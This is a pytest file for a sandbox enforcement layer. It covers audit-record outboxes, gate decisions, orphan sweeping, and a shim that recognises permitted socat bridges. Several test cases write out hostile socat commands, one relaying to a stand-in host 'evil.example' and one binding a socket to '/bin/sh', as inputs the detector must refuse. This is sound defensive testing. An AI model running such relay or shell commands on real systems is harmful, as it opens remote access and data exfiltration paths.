"""The sandboxed gate's and shims' records: posted to the session outbox, moved into the spool by the wrapper."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest

from claude_enterprise.audit import AuditContext
from claude_enterprise.enforce import outbox
from claude_enterprise.enforce.gate import REFUSED
from claude_enterprise.enforce.sandbox_helpers import is_sandbox_helper
from claude_enterprise.enforce.server import DecisionServer
from claude_enterprise.enforce.shims import build_shim_dir
from claude_enterprise.resolve import resolve
from tests.enforce.conftest import SESSION_ID, decisions
from tests.enforce.test_gate import run_gate
from tests.enforce.wrapping import claude_wrap
from tests.support.launcher import audit_events

WRAPPER_CTX = AuditContext(session_id=SESSION_ID, profile="restricted", user={"sub": "wrapper-user"})


@pytest.fixture
def box(tmp_path: Path) -> Path:
    return outbox.create(tmp_path / "outboxes", "abc")


@pytest.fixture
def sandboxed_server(enforce_env: dict[str, str], tmp_path: Path, project_dir: Path,
                     box: Path) -> Callable[[str], DecisionServer]:
    """A session whose socket is out of reach (stopped), as from inside the sandbox, with an outbox."""
    def make(profile: str) -> DecisionServer:
        server = DecisionServer(resolve(profile, enforce_env), SESSION_ID, tmp_path / "session",
                                project_dirs=(str(project_dir),), outbox=str(box)).start()
        server.stop()
        return server
    return make


def test_gate_without_its_socket_posts_to_the_outbox(sandboxed_server: Callable[[str], DecisionServer],
                                                     enforce_env: dict[str, str], project_dir: Path, box: Path,
                                                     tmp_path: Path) -> None:
    wrap = partial(claude_wrap, snapshot=None, cwd_file=str(tmp_path / "claude-1a2b-cwd"))  # not in /tmp
    server = sandboxed_server("restricted")
    marker = tmp_path / "marker"
    env = {**enforce_env, "CLAUDE_ENTERPRISE_PROFILE": "standard"}  # the session file decides, not the env
    assert run_gate([server.gate_path], wrap(f"touch {marker}"), env, project_dir).returncode == REFUSED
    assert run_gate([server.gate_path], wrap("git --version"), env, project_dir).returncode == 0
    assert not marker.exists()
    assert decisions(enforce_env) == []  # nothing in the spool yet: inside the sandbox it would vanish
    assert outbox.drain(box, WRAPPER_CTX) == 2
    moved = decisions(enforce_env)
    assert [(e["decision"], e["enforcement"], e["reported_from"]) for e in moved] == [
        ("deny", "gate", "sandbox"), ("allow", "gate", "sandbox")]
    assert all(e["user"] == {"sub": "wrapper-user"} and e["profile"] == "restricted" for e in moved)
    assert outbox.drain(box, WRAPPER_CTX) == 0


def test_only_known_fields_of_a_posted_record_are_taken(enforce_env: dict[str, str], box: Path) -> None:
    outbox.post(str(box), {"decision": "allow", "rule_id": "r", "user": "forged", "session_id": "x",
                           "reason": 5, "type": "tool_decision"})
    (box / "zz-garbage.json").write_text("{not json")
    (box / "zz-other-type.json").write_text(json.dumps({"type": "session_end"}))
    assert outbox.drain(box, WRAPPER_CTX) == 3
    events = audit_events(Path(enforce_env["CLAUDE_ENTERPRISE_STATE_DIR"]))
    first = events[0]
    assert first["type"] == "tool_decision" and first["session_id"] == SESSION_ID and first["user"] == {
        "sub": "wrapper-user"} and first["reason"] is None
    assert [e["type"] for e in events[1:]] == ["audit_outbox_invalid"] * 2


def test_records_of_a_dead_wrapper_are_swept_by_the_next(enforce_env: dict[str, str], tmp_path: Path) -> None:
    root = tmp_path / "outboxes"
    dead = outbox.create(root, "dead")
    dead_pid = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                              text=True, check=True).stdout.strip()
    (dead / "wrapper.pid").write_text(dead_pid)
    outbox.post(str(dead), {"decision": "deny", "rule_id": "r1"})
    alive = outbox.create(root, "alive")
    outbox.post(str(alive), {"decision": "deny", "rule_id": "r2"})
    assert outbox.sweep_orphans(root, WRAPPER_CTX) == 1
    (event,) = decisions(enforce_env)
    assert event["rule_id"] == "r1" and event["orphaned_outbox"] == "dead"
    assert not dead.exists() and alive.exists()


def test_ingester_moves_records_while_running_and_at_stop(enforce_env: dict[str, str], box: Path) -> None:
    ingester = outbox.Ingester(box, WRAPPER_CTX, interval=0.01)
    ingester.start()
    outbox.post(str(box), {"decision": "deny", "rule_id": "r1"})
    ingester.stop()
    assert [e["rule_id"] for e in decisions(enforce_env)] == ["r1"]
    assert not box.exists()


@pytest.mark.parametrize(("argv", "helper"), [
    (["socat", "UNIX-LISTEN:/tmp/claude-http-0af3.sock,fork,reuseaddr",
      "TCP:localhost:38089,keepalive,keepidle=10,keepintvl=5,keepcnt=3"], True),
    (["/usr/bin/socat", "TCP-LISTEN:3128,fork,reuseaddr", "UNIX-CONNECT:/tmp/claude-socks-9a.sock"], True),
    (["socat", "TCP-LISTEN:3128,fork,reuseaddr", "TCP:evil.example:80"], False),
    (["socat", "UNIX-LISTEN:/tmp/claude-http-0af3.sock,fork,reuseaddr", "EXEC:/bin/sh"], False),
    (["socat", "TCP-LISTEN:3128,fork,reuseaddr", "UNIX-CONNECT:/tmp/other.sock"], False),
    (["socat", "TCP-LISTEN:3128,fork,reuseaddr", "UNIX-CONNECT:/tmp/claude-http-0a.sock", "-v"], False),
    (["curl", "TCP-LISTEN:3128,fork,reuseaddr", "UNIX-CONNECT:/tmp/claude-http-0a.sock"], False),
])
def test_sandbox_helpers_are_recognised_to_the_byte(argv: list[str], helper: bool) -> None:
    assert is_sandbox_helper(argv) is helper


def test_shim_passes_the_sandbox_bridge_and_posts_refusals(enforce_env: dict[str, str], tmp_path: Path,
                                                           box: Path) -> None:
    profile = resolve("restricted", enforce_env).profile
    shims = build_shim_dir(profile, tmp_path / "shims", WRAPPER_CTX, outbox=box)
    real = tmp_path / "real"
    real.mkdir()
    marker = tmp_path / "bridged"
    (real / "socat").write_text(f"#!/bin/sh\necho \"$@\" > {marker}\n")
    (real / "socat").chmod(0o755)
    env = {**enforce_env, "PATH": f"{shims}{os.pathsep}{real}{os.pathsep}/usr/bin:/bin"}
    bridge = ["TCP-LISTEN:3128,fork,reuseaddr", "UNIX-CONNECT:/tmp/claude-http-0af3.sock"]
    assert subprocess.run(["socat", *bridge], env=env, check=False).returncode == 0
    assert marker.read_text().split() == bridge
    marker.unlink()
    refused = subprocess.run(["socat", "TCP:evil:80", "STDIO"], env=env, capture_output=True, check=False)
    assert refused.returncode == REFUSED and not marker.exists()
    assert outbox.drain(box, WRAPPER_CTX) == 1
    (event,) = [e for e in audit_events(Path(enforce_env["CLAUDE_ENTERPRISE_STATE_DIR"]))
                if e["type"] == "exec_blocked"]
    assert event["program"] == "socat" and event["source"] == "shim" and event["reported_from"] == "sandbox"


def test_the_hooks_allow_lets_the_sandboxed_gate_skip_the_engine(enforce_env: dict[str, str], tmp_path: Path,
                                                                 project_dir: Path, box: Path) -> None:
    """The hook (outside the sandbox) allows `git --version` here; the gate, without its socket, finds that
    allow and records it; a command the hook never allowed takes the full decision."""
    wrap = partial(claude_wrap, snapshot=None, cwd_file=str(tmp_path / "claude-1a2b-cwd"))  # not in /tmp
    from tests.enforce.conftest import hook_argv, payload, run_hook

    server = DecisionServer(resolve("restricted", enforce_env), SESSION_ID, tmp_path / "session",
                            project_dirs=(str(project_dir),), outbox=str(box)).start()
    try:
        hook = run_hook(hook_argv(server), payload("Bash", {"command": "git --version"}, project_dir), enforce_env)
        assert hook.returncode == 0 and not hook.stdout.strip()
    finally:
        server.stop()
    assert len(os.listdir(server.approvals_dir)) == 1
    assert run_gate([server.gate_path], wrap("git --version"), enforce_env, project_dir).returncode == 0
    assert run_gate([server.gate_path], wrap("git --help"), enforce_env, project_dir).returncode == 0
    other = tmp_path / "elsewhere"
    other.mkdir()
    assert run_gate([server.gate_path], wrap("git --version"), enforce_env, other).returncode == 0
    assert outbox.drain(box, WRAPPER_CTX) == 3
    gate = [e for e in decisions(enforce_env) if e["enforcement"] == "gate"]
    assert [e["reason"].startswith("the PreToolUse hook allowed") for e in gate] == [True, False, False]
    assert gate[0]["rule_id"] == "shell.allowlist.allowed" and gate[0]["command"] == "git --version"
